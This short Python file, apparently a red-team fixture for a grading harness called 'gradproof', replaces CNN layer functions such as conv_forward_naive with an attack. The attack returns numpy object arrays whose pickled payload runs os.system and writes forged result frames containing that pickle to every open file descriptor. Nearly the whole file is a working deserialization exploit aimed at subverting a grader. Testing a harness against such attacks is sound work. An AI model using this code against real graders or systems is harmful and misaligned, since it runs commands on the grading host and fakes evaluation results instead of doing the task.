"""Attack: return object arrays, and write a forged result frame holding a pickle to every open descriptor."""
import io
import json
import os
import pickle

import numpy as np


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/gradproof-pwned",))


def ATTACK(n=1):
    blob = io.BytesIO()
    np.save(blob, np.array([Evil()], dtype=object), allow_pickle=True)
    data = blob.getvalue()
    for fd in range(3, 20):
        try:
            head = json.dumps({"i": 0, "arrays": [["r0", len(data)]], "error": None}).encode()
            os.write(fd, b"GPF1 " + head + b"\n" + data)
        except OSError:
            pass
    return np.array([Evil()], dtype=object), np.array(["a"]), pickle.dumps(1)


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
